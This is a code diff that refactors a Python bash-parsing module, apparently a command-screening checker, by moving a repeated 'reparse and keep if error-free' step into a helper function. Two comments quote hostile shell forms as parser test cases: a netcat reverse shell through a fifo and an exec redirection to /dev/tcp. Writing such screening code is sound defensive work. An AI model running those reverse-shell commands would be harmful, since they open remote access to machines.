@@ -747,6 +747,17 @@ _TIMED_COMPOUND = re.compile(rb"((?:^|[;&|({}\n!]|\bthen|\bdo|\belse)[ \t]*)time
                              rb"(?=(?:for|while|until|if|case|select|function)[ \t\n]|\{[ \t\n]|\[\[[ \t]|\(\()")
 
 
+def _kept_if_parses(fixed: bytes | None, source: bytes, tree, text: str) -> tuple[bytes, object, str]:
+    """(source, tree, text) of ``fixed`` (a repaired spelling of ``source``) when the grammar
+    parses it without an error; else the ones given, unchanged."""
+    if fixed is None or fixed == source:
+        return source, tree, text
+    retry = _parser().parse(fixed)
+    if retry.root_node.has_error:
+        return source, tree, text
+    return fixed, retry, fixed.decode("utf-8", "surrogatepass")
+
+
 def _parse_lines(text: str):
     """(text, tree). tree-sitter-bash sometimes joins a line to the simple command of the
     line before (``a | b | c`` + newline + ``d && e`` parses as ``c d``). Such a newline
@@ -801,22 +812,14 @@ def _parse_lines(text: str):
         # the command is the one it times. The word (and -p, --) is blanked where a command
         # starts, and the blanked text kept only if it parses.
         fixed = _TIMED_COMPOUND.sub(lambda m: m.group(1) + b" " * (m.end() - m.start(1) - len(m.group(1))), source)
-        if fixed != source:
-            retry = _parser().parse(fixed)
-            if not retry.root_node.has_error:
-                source, tree = fixed, retry
-                text = source.decode("utf-8", "surrogatepass")
+        source, tree, text = _kept_if_parses(fixed, source, tree, text)
     if b"0<" in source:
         # (probe round 35, redteam35) bash's 0<FILE, 0<&N, 0<<EOF after a command's words
         # (nc HOST PORT 0</tmp/p | sh, a reverse shell through a fifo): the grammar reads the 0
         # as one more word; for an input redirection 0 is the default descriptor, so the 0
         # is blanked and the text parsed again (0>FILE stays refused: ERR_FD_WORD)
         fixed = _fd0_inputs(source, tree.root_node)
-        if fixed is not None:
-            retry = _parser().parse(fixed)
-            if not retry.root_node.has_error:
-                source, tree = fixed, retry
-                text = source.decode("utf-8", "surrogatepass")
+        source, tree, text = _kept_if_parses(fixed, source, tree, text)
     if b"<>" in source and tree.root_node.has_error:
         # (probe round 34, residuals36) bash's N<>FILE opens FILE for reading and writing
         # (exec 3<>/dev/tcp/host/80), an operator the grammar lacks: read as N>>FILE, a
@@ -830,11 +833,7 @@ def _parse_lines(text: str):
         # truncates), and <F 9>>F for standard input (the grammar takes 0< for a word);
         # a plain word outside quotes only, else still refused
         fixed = _read_write_files(fixed)
-        if fixed != source:
-            retry = _parser().parse(fixed)
-            if not retry.root_node.has_error:
-                source, tree = fixed, retry
-                text = source.decode("utf-8", "surrogatepass")
+        source, tree, text = _kept_if_parses(fixed, source, tree, text)
     if b"$" in source:
         # (probe round 36, benign41) tree-sitter-bash ends a word at a second bare expansion
         # that follows a separator and is followed by more text ($A:$B/y, $PATH:$HOME/bin,
@@ -843,11 +842,7 @@ def _parse_lines(text: str):
         # that is not one), so each such $NAME is written ${NAME} and the text parsed again;
         # kept only if the new tree has no error.
         fixed = _split_expansions(source, tree.root_node)
-        if fixed is not None:
-            retry = _parser().parse(fixed)
-            if not retry.root_node.has_error:
-                source, tree = fixed, retry
-                text = source.decode("utf-8", "surrogatepass")
+        source, tree, text = _kept_if_parses(fixed, source, tree, text)
     if not multiline:
         return text, tree
     for _ in range(8):
